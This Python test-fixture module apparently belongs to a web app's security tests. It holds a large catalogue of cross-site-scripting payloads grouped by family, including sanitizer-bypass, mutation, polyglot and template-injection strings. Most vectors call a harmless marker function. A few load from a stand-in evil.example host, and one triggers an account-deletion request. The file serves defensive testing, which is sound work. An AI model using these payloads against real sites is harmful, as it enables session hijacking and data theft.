"""Hostile input for the XSS tests: what an attacker types into Vindplaats.

Every payload that would run calls a marker the browser test can count:
`xss()` (defined by the test with `page.add_init_script`), `parent.xss()` /
`top.xss()` from frames, `window.__xss=1`, or `alert(1)` (the test listens for
dialogs). The vectors are grouped by family; `FAMILIES` maps a family's name
to its vectors, `VECTORS` lists them all once, in order.

`INERT_FAMILIES` hold input that is not markup for a browser at all
(template syntax, percent-encoded or entity-encoded text, look-alike
characters): it must come back as the text that was typed, and it does not
count as executable when shown raw. Every other vector is executable when a
page shows it unescaped, which tests/test_security_xss.py checks against its
own parser so that the checker is known to see them.

Vectors containing a NUL character are in the "nul" family only: forms
refuse NUL and PostgreSQL cannot store it, so they are sent on their own.
"""

import base64

MARK = "xss()"

SCRIPT_B64 = base64.b64encode(b"<script>parent.xss()</script>").decode()
SVG_B64 = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.xss()"/>'
).decode()
JS_B64 = base64.b64encode(b"xss()").decode()
# "javascript" in fullwidth letters.
FULLWIDTH_LINK = (
    '<a href="\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:xss()">x</a>'
)

FAMILIES = {
    # Plain <script> elements: casing, whitespace in the tag, types, sources,
    # and script bodies that reach the marker indirectly.
    "script": [
        "<script>xss()</script>",
        "<SCRIPT>xss()</SCRIPT>",
        "<ScRiPt>xss()</sCrIpT>",
        "<script >xss()</script >",
        "<script\n>xss()</script\n>",
        '<script type="text/javascript">xss()</script>',
        "<script type=module>xss()</script>",
        "<script/any>xss()</script>",
        "<script async defer>window.__xss=1</script>",
        "<script>alert(1)</script>",
        "<script>alert`1`</script>",
        f"<script>eval(atob('{JS_B64}'))</script>",
        "<script>\\u0078ss()</script>",
        "<script>setTimeout('xss()')</script>",
        "<script>[].constructor.constructor('xss()')()</script>",
        "<script src=data:text/javascript,xss()></script>",
        '<script src="//evil.example/xss.js"></script>',
        "</p><script>xss()</script><p>",
    ],
    # Event handler attributes on every kind of element, quoted and not,
    # with odd separators, entities inside the handler and self-firing ones.
    "event-handler": [
        "<img src=x onerror=xss()>",
        "<IMG SRC=x ONERROR=xss()>",
        '<img src=x onerror="xss()">',
        "<img src=x onerror='xss()'>",
        "<img src=x onerror=xss`1`>",
        '<img/src="x"/onerror=xss()>',
        "<img src=x\nonerror=xss()>",
        "<img src=x onerror\t=\txss()>",
        "<img src=x onerror=&#120;ss()>",
        '<img src=x onerror="&#x78;&#x73;&#x73;&#x28;&#x29;">',
        "<img src onerror=xss()>",
        "<image src=x onerror=xss()>",
        "<img src=x onerror=window.__xss=1>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=top['x'+'ss']()>",
        '<img src="x" onerror="xss()"/>',
        "<body onload=xss()>",
        "<body onpageshow=xss()>",
        "<input autofocus onfocus=xss()>",
        "<select autofocus onfocus=xss()></select>",
        "<textarea autofocus onfocus=xss()>x</textarea>",
        "<div contenteditable autofocus onfocus=xss()>x</div>",
        "<details open ontoggle=xss()><summary>x</summary></details>",
        "<video><source onerror=xss()></video>",
        "<video src=x onerror=xss()></video>",
        "<audio src=x onerror=xss()></audio>",
        "<iframe onload=xss()></iframe>",
        "<marquee onstart=xss()>x</marquee>",
        "<div onmouseover=xss()>beweeg hier</div>",
        "<a onmouseover=xss() href=#>beweeg hier</a>",
        "<button onclick=xss()>klik</button>",
        "<div onpointerenter=xss()>x</div>",
        "<style onload=xss()></style>",
        "<link rel=stylesheet href=x onerror=xss()>",
        "<x onclick=xss()>klik</x>",
        "<custom-tag onfocusin=xss() tabindex=0>x</custom-tag>",
        "<keygen autofocus onfocus=xss()>",
    ],
    # javascript: URLs in HTML attributes: casing, entities, whitespace and
    # control characters inside and before the scheme, percent escapes.
    "javascript-url": [
        '<a href="javascript:xss()">x</a>',
        '<a href="JaVaScRiPt:xss()">x</a>',
        '<a href="JAVASCRIPT:xss()">x</a>',
        '<a href=" javascript:xss()">x</a>',
        '<a href="java\tscript:xss()">x</a>',
        '<a href="java\nscript:xss()">x</a>',
        '<a href="java\rscript:xss()">x</a>',
        '<a href="\x01javascript:xss()">x</a>',
        '<a href="java&#x09;script:xss()">x</a>',
        '<a href="java&#10;script:xss()">x</a>',
        '<a href="javas&Tab;cript:xss()">x</a>',
        '<a href="&#106;avascript:xss()">x</a>',
        '<a href="&#x6A;avascript:xss()">x</a>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
        '&#0000114&#0000105&#0000112&#0000116&#0000058xss()">x</a>',
        '<a href="javascript&colon;xss()">x</a>',
        '<a href="javascript:%78ss()">x</a>',
        '<a href="javascript://%0Axss()">x</a>',
        "<a href=javascript:xss()>x</a>",
        "<a href='javascript:xss()'>x</a>",
        '<a href="https://example.org" onclick="xss()">x</a>',
        '<iframe src="javascript:parent.xss()"></iframe>',
        '<form action="javascript:xss()"><button>x</button></form>',
        '<form><button formaction="javascript:xss()">x</button></form>',
        "<input type=image src=x formaction=javascript:xss()>",
        '<embed src="javascript:xss()">',
        '<object data="javascript:xss()"></object>',
        "<map><area href=javascript:xss() shape=default></map>",
        '<base href="javascript:xss()//">',
        '<a href="livescript:xss()">x</a>',
    ],
    # data: and vbscript: URLs: base64 and plain HTML documents, SVG
    # documents, meta refresh and frames.
    "data-vbscript-url": [
        f'<a href="data:text/html;base64,{SCRIPT_B64}">x</a>',
        '<a href="data:text/html,<script>parent.xss()</script>">x</a>',
        '<a href="DATA:TEXT/HTML,<script>parent.xss()</script>">x</a>',
        '<iframe src="data:text/html,<script>parent.xss()</script>"></iframe>',
        f'<iframe src="data:text/html;base64,{SCRIPT_B64}"></iframe>',
        f'<object data="data:text/html;base64,{SCRIPT_B64}"></object>',
        f'<embed src="data:image/svg+xml;base64,{SVG_B64}">',
        '<script src="data:,xss()"></script>',
        '<link rel=import href="data:text/html,<script>xss()</script>">',
        '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
        '<meta http-equiv="refresh" '
        f'content="0;url=data:text/html;base64,{SCRIPT_B64}">',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="VBScript:MsgBox(1)">x</a>',
        "[x](vbscript:msgbox(1))",
        f"[x](data:text/html;base64,{SCRIPT_B64})",
        "[x](data:text/html,<script>xss()</script>)",
        f"![x](data:image/svg+xml;base64,{SVG_B64})",
    ],
    # Markdown: inline, reference and image links, autolinks, titles,
    # entities and whitespace in the destination, code that holds HTML,
    # and addresses that the linkifier turns into links.
    "markdown": [
        "[klik](javascript:xss())",
        "[klik](JaVaScRiPt:xss())",
        "[klik](  javascript:xss()  )",
        "[klik](java\tscript:xss())",
        "[klik](&#106;avascript:xss())",
        "[klik](&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;xss())",
        "[klik](javascript&#58;xss())",
        "[klik](<javascript:xss()>)",
        '[klik](javascript:xss() "titel")',
        "[klik](javascript:xss%28%29)",
        "[klik](\njavascript:xss())",
        "<javascript:xss()>",
        "<JAVASCRIPT:xss()>",
        "[klik][1]\n\n[1]: javascript:xss()",
        '[klik][ref]\n\n[ref]: JaVaScRiPt:xss() "titel"',
        "[javascript:xss()][]\n\n[javascript:xss()]: javascript:xss()",
        "![x](javascript:xss())",
        '![x](x "onerror=xss()")',
        '![x" onerror="xss()](x)',
        "![x][img]\n\n[img]: javascript:xss()",
        "[![x](x)](javascript:xss())",
        "[<img src=x onerror=xss()>](https://example.org)",
        '[x](https://example.org"onmouseover="xss())',
        "[x](https://example.org' onmouseover='xss())",
        '[x](#" onmouseover="xss())',
        '[x](https://example.org "\\"onmouseover=xss()")',
        "*[x](javascript:xss())*",
        "`<script>xss()</script>`",
        "```\n<script>xss()</script>\n```",
        "    <img src=x onerror=xss()>",
        "> <script>xss()</script>",
        "- <img src=x onerror=xss()>",
        "**<img src=x onerror=xss()>**",
        '<div markdown="1">[x](javascript:xss())</div>',
        '<http://example.org/"onmouseover="xss()>',
        "<https://example.org/<script>xss()</script>>",
        '<mailto:x@example.org"onmouseover="xss()>',
        'https://example.org/"onmouseover="xss()',
        'www.example.org"><script>xss()</script>',
        'x@example.org" onmouseover="xss()',
    ],
    # SVG: load events, scripts by content and by reference, links,
    # animation that writes attributes, foreignObject and CDATA tricks.
    "svg": [
        "<svg onload=xss()>",
        "<svg/onload=xss()>",
        "<SVG ONLOAD=xss()>",
        "<svg><script>xss()</script></svg>",
        '<svg><script href="data:,xss()"/></svg>',
        '<svg><script xlink:href="data:,xss()"></script></svg>',
        '<svg><a xlink:href="javascript:xss()"><text x=20 y=20>x</text></a></svg>',
        '<svg><a href="javascript:xss()"><rect width=100 height=100 /></a></svg>',
        "<svg><animate onbegin=xss() attributeName=x dur=1s />",
        "<svg><set attributeName=onmouseover to=xss() />",
        "<svg><a><animate attributeName=href values=javascript:xss() />"
        "<text y=20>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
        "<svg><image href=x onerror=xss() /></svg>",
        f'<svg><use href="data:image/svg+xml;base64,{SVG_B64}#x" /></svg>',
        "<svg><desc><![CDATA[</desc><script>xss()</script>]]></svg>",
        "<svg><title><![CDATA[</title><img src=x onerror=xss()>]]></svg>",
        '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
    ],
    # MathML: links on math elements and the namespace confusion behind
    # the sanitizer bypasses of recent years.
    "mathml": [
        '<math href="javascript:xss()">x</math>',
        "<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction>"
        "</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
        '<math><annotation-xml encoding="text/html"><img src=x onerror=xss()>'
        "</annotation-xml></math>",
        "<math><mtext><img src=x onerror=xss()></mtext></math>",
        "<math><style><img src=x onerror=xss()></style></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        '<path id="</style><img onerror=xss() src>">',
    ],
    # Mutation XSS: markup that parses differently the second time, raw-text
    # elements that end early, and comment forms browsers close sooner.
    "mutation": [
        '<noscript><p title="</noscript><img src=x onerror=xss()>">',
        "<noscript><style></noscript><img src=x onerror=xss()>",
        "<title><img src=x onerror=xss()></title>",
        "<xmp><img src=x onerror=xss()></xmp>",
        '<noembed><img title="</noembed><img src=x onerror=xss()>"></noembed>',
        '<iframe><img title="</iframe><img src=x onerror=xss()>"></iframe>',
        "<template><img src=x onerror=xss()></template>",
        "<select><template><style></select><img src=x onerror=xss()></style>"
        "</template></select>",
        "<svg><p><style><img src=x onerror=xss()>",
        "<table><tr><td><svg><desc><td></desc><img src=x onerror=xss()>",
        "<!--><img src=x onerror=xss()>-->",
        "<!-- --!><img src=x onerror=xss()>-->",
        "<?xml-stylesheet ?><img src=x onerror=xss()>",
        "<![CDATA[><img src=x onerror=xss()>]]>",
        "<plaintext><img src=x onerror=xss()>",
    ],
    # Broken markup: unclosed tags and attributes, tags split by tags,
    # junk inside tags, end tags that never come.
    "broken": [
        "<img src=x onerror=xss()//",
        "<img src=x onerror=xss() ",
        "<<script>script>xss()<</script>/script>",
        "<scr<script>ipt>xss()</scr</script>ipt>",
        '<img src="x" onerror="xss()',
        "<img src='x onerror=xss()>",
        '<a href="x" title="" onmouseover=xss()">x</a>',
        '<img """><script>xss()</script>">',
        "<img src=`x` onerror=xss()>",
        "<script>xss()<!--</script>",
        "<b <script>xss()</script>>",
        "<img src=x onerror=xss() <b>",
        '<a href="javascript:xss()"',
        "<div <img src=x onerror=xss()>>",
        "<iframe src=javascript:parent.xss() <",
        "<script>xss()</script",
        "<svg onload=xss() <",
    ],
    # CSS: javascript: in url(), IE expression() and behaviours, Firefox
    # bindings, style elements, @import and animation events.
    "css": [
        '<div style="background:url(javascript:xss())">x</div>',
        "<div style=\"background-image:url('javascript:xss()')\">x</div>",
        '<div style="width:expression(xss())">x</div>',
        '<div style="width:expr/**/ession(xss())">x</div>',
        '<div style="x:ex\\pression(xss())">x</div>',
        '<p style="x:\\65xpression(xss())">x</p>',
        '<div style="behavior:url(xss.htc)">x</div>',
        '<div style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</div>',
        '<p style="color:red;background:url(&#106;avascript:xss())">x</p>',
        f'<div style="background:url(data:image/svg+xml;base64,{SVG_B64})">x</div>',
        '<style>body{background:url("javascript:xss()")}</style>',
        "<style>@import 'javascript:xss()';</style>",
        "<style>*{x:expression(xss())}</style>",
        '<link rel=stylesheet href="javascript:xss()">',
        "<style>@keyframes x{}</style>"
        '<div style="animation-name:x" onanimationstart="xss()">x</div>',
    ],
    # Breaking out of the context the text lands in: attribute values,
    # textarea, title, option, script, style and comments, and polyglots.
    "breakout": [
        '" onmouseover="xss()',
        "' onmouseover='xss()",
        '" autofocus onfocus="xss()',
        '" onfocus=xss() autofocus x="',
        "x onmouseover=xss()",
        '"><script>xss()</script>',
        "'><script>xss()</script>",
        '"><img src=x onerror=xss()>',
        "'\"><svg onload=xss()>",
        "</textarea><script>xss()</script>",
        "</title><script>xss()</script>",
        "</option></select><img src=x onerror=xss()>",
        "</script><img src=x onerror=xss()>",
        "</style><img src=x onerror=xss()>",
        "</noscript><img src=x onerror=xss()>",
        "--><img src=x onerror=xss()>",
        "]]><img src=x onerror=xss()>",
        "';xss();//</script><script>xss()</script>",
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss()//'>",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e",
    ],
    # Frames, plugins and other elements that load or run something.
    "embedding": [
        '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>',
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/xss.swf"></object>',
        '<embed code="javascript:xss()">',
        "<frameset onload=xss()>",
        "<isindex action=javascript:xss() type=image>",
        '<applet code="javascript:xss()"></applet>',
        "<portal src=javascript:xss()></portal>",
        '<form id=x></form><button form=x formaction="javascript:xss()">x</button>',
    ],
    # htmx (the search page loads it) and other attribute-driven scripting,
    # and DOM clobbering of names the site's scripts read.
    "htmx-dom": [
        '<div hx-on:load="xss()">x</div>',
        '<div hx-on::load="xss()">x</div>',
        '<div hx-on-click="xss()">x</div>',
        '<div data-hx-on:click="xss()">x</div>',
        "<div hx-get=/zoeken/ hx-trigger=load hx-vals='js:{a:xss()}'>x</div>",
        '<button hx-post="/leden/account/verwijderen/" hx-trigger="load">x</button>',
        '<meta name="htmx-config" content=\'{"allowEval":true}\'>',
        "<img name=getElementById><form id=htmx><input name=config></form>",
        '<div x-data x-init="xss()"></div>',
        "<div v-html=\"'<img src=x onerror=xss()>'\"></div>",
    ],
    # Template syntax of Django, Jinja, Angular, JSP and friends: must be
    # shown as typed, never evaluated.
    "template": [
        "{{7*7}}",
        "{{ request.user.password }}",
        "{% debug %}",
        "{{ settings.SECRET_KEY }}",
        "{% load static %}{% static 'x' %}",
        "{{ '<script>xss()</script>'|safe }}",
        "{% autoescape off %}<script>xss()</script>{% endautoescape %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[${7*7}]]",
        "{{constructor.constructor('xss()')()}}",
        "{{$on.constructor('xss()')()}}",
    ],
    # Encoded forms: percent-encoded, double-encoded, entity-encoded,
    # JavaScript escapes and UTF-7. Not markup; must stay text.
    "encoded": [
        "%3Cscript%3Exss()%3C/script%3E",
        "%253Cscript%253Exss()%253C%252Fscript%253E",
        "%3Cimg%20src%3Dx%20onerror%3Dxss()%3E",
        "&lt;script&gt;xss()&lt;/script&gt;",
        "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
        "&#60;script&#62;xss()&#60;/script&#62;",
        "&#x3C;img src=x onerror=xss()&#x3E;",
        "\\x3cscript\\x3exss()\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=xss()\\u003e",
        '<a href="%6A%61%76%61%73%63%72%69%70%74:xss()">x</a>',
        '<a href="javascript%3Axss()">x</a>',
        '<a href="&#x26;#x6A;avascript:xss()">x</a>',
        "[x](%6A%61%76%61%73%63%72%69%70%74%3Axss%28%29)",
        "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    ],
    # Look-alike characters and invisible ones: fullwidth brackets, a BOM,
    # line separators and soft hyphens in the scheme.
    "unicode": [
        "\uff1cscript\uff1exss()\uff1c/script\uff1e",
        "<scr\x00ipt>xss()</scr\x00ipt>",
        FULLWIDTH_LINK,
        "\ufeff<script>xss()</script>",
        '<a href="\u2028javascript:xss()">x</a>',
        '<a href="java\u00adscript:xss()">x</a>',
        "<\u017fcript>xss()</\u017fcript>",
        "<\u0130mg src=x onerror=xss()>",
        "<img src=x onerror=\u200bxss()>",
    ],
    # NUL bytes: refused by the forms, impossible to store in PostgreSQL.
    "nul": [
        '<a href="java\x00script:xss()">x</a>',
        "<scr\x00ipt>xss()</scr\x00ipt>",
        "<img src=x onerror=xss()\x00>",
        "\x00<script>xss()</script>",
    ],
}

# Families that are not markup (see the module docstring).
INERT_FAMILIES = frozenset({"template", "encoded"})
# Individual vectors outside those families that no browser runs: tag names
# and URL schemes in look-alike characters are neither tags nor schemes, and
# browsers turn a NUL in a tag name into U+FFFD.
INERT_VECTORS = frozenset(
    {
        "\uff1cscript\uff1exss()\uff1c/script\uff1e",
        "<\u017fcript>xss()</\u017fcript>",
        "<scr\x00ipt>xss()</scr\x00ipt>",
        FULLWIDTH_LINK,
    }
)


def _flatten(families):
    seen = {}
    for vectors in families.values():
        for vector in vectors:
            seen.setdefault(vector, None)
    return list(seen)


VECTORS = _flatten(FAMILIES)
NUL_VECTORS = [vector for vector in VECTORS if "\x00" in vector]
STORABLE = [vector for vector in VECTORS if "\x00" not in vector]


def storable_families():
    """The families whose vectors can be stored (no NUL), by name."""
    return {
        name: vectors
        for name, vectors in FAMILIES.items()
        if vectors and not any("\x00" in vector for vector in vectors)
    }


def executable_vectors():
    """Vectors that run (or load something) when a page shows them raw."""
    return [
        vector
        for name, vectors in FAMILIES.items()
        if name not in INERT_FAMILIES
        for vector in vectors
        if vector not in INERT_VECTORS
    ]


def pack(vectors, limit, separator=" "):
    """The vectors joined into as few strings of at most `limit` characters
    as possible, in order; a vector longer than `limit` is left out."""
    chunks, current = [], ""
    for vector in vectors:
        if len(vector) > limit:
            continue
        candidate = f"{current}{separator}{vector}" if current else vector
        if len(candidate) <= limit:
            current = candidate
        else:
            chunks.append(current)
            current = vector
    if current:
        chunks.append(current)
    return chunks


def too_long(vectors, limit):
    return [vector for vector in vectors if len(vector) > limit]
